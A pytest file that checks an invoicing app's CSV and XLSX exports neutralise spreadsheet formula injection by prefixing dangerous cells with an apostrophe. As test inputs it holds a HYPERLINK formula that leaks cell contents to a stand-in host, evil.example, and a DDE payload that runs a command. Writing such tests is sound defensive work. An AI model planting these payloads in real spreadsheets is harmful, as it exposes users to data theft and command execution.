"""Formula injection in the CSV and XLSX exports (issue 10, point 7).

Text cells a spreadsheet would run as a formula get a leading apostrophe; numbers (negative
amounts included) and dates stay numeric and date cells.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from requests_app import exports

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik her")'
DANGEROUS = [HYPERLINK, "+4512345678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
HEADERS = ["Fakturanummer", "Beløb", "Antal", "Dato", "Tekst"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_starting_a_formula_gets_an_apostrophe(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["F-1", "NFA", "Region Sjælland", "a=b", "", "1 = 1"])
def test_ordinary_text_is_left_alone(text):
    assert exports.neutralise(text) == text


@pytest.mark.parametrize(
    "value",
    [
        Decimal("-1234.50"),
        Decimal("0.00"),
        -3,
        -2.5,
        True,
        datetime.date(2026, 1, 31),
        datetime.datetime(2026, 1, 31, 12, 0),
        None,
    ],
)
def test_numbers_dates_and_none_are_unchanged(value):
    assert exports.neutralise(value) is value


def test_objects_become_text_and_are_neutralised_too():
    class Name:
        def __str__(self):
            return "=cmd|' /C calc'!A0"

    assert exports.neutralise(Name()) == "'=cmd|' /C calc'!A0"


def rows():
    return [
        [text, Decimal("-1234.50"), -3, datetime.date(2026, 1, 31), "F-1"] for text in DANGEROUS
    ]


def read_csv(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_csv_neutralises_every_dangerous_cell_and_keeps_negative_amounts_numeric():
    response = exports.csv_response("fakturaer", ["=Header", *HEADERS[1:]], rows())
    header, *body = read_csv(response)
    assert header == ["'=Header", *HEADERS[1:]]
    assert [row[0] for row in body] == ["'" + text for text in DANGEROUS]
    for row in body:
        # A negative Decimal is written as a number (Danish decimal comma), not quoted text.
        assert row[1:] == ["-1234,50", "-3", "2026-01-31", "F-1"]


def read_xlsx(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_xlsx_never_writes_a_formula_and_keeps_numbers_and_dates_typed():
    totals = ["=SUM(B2:B9)", Decimal("-7407.00"), -18, None, "@total"]
    response = exports.xlsx_response("fakturaer", HEADERS, rows(), totals=totals)
    sheet = read_xlsx(response)
    cells = list(sheet.iter_rows())
    body, total = cells[1:-1], cells[-1]
    assert len(body) == len(DANGEROUS)
    assert all(cell.data_type != "f" for row in cells for cell in row)
    for text, row in zip(DANGEROUS, body, strict=True):
        invoice_number, amount, count, date, plain = row
        # XML reads a bare CR back as LF; the apostrophe in front is what matters.
        expected = ("'" + text).replace("\r", "\n")
        assert (invoice_number.value, invoice_number.data_type) == (expected, "s")
        assert (amount.value, amount.data_type) == (-1234.5, "n")
        assert (count.value, count.data_type) == (-3, "n")
        assert date.is_date and date.value == datetime.datetime(2026, 1, 31)
        assert (plain.value, plain.data_type) == ("F-1", "s")
    assert (total[0].value, total[0].data_type) == ("'=SUM(B2:B9)", "s")
    assert (total[1].value, total[1].data_type) == (-7407.0, "n")
    assert (total[2].value, total[2].data_type) == (-18, "n")
    assert (total[4].value, total[4].data_type) == ("'@total", "s")


def test_xlsx_neutralises_headers_too():
    sheet = read_xlsx(exports.xlsx_response("x", ["-Minus", "Beløb"], [["a", Decimal("1")]]))
    assert [cell.value for cell in sheet[1]] == ["'-Minus", "Beløb"]
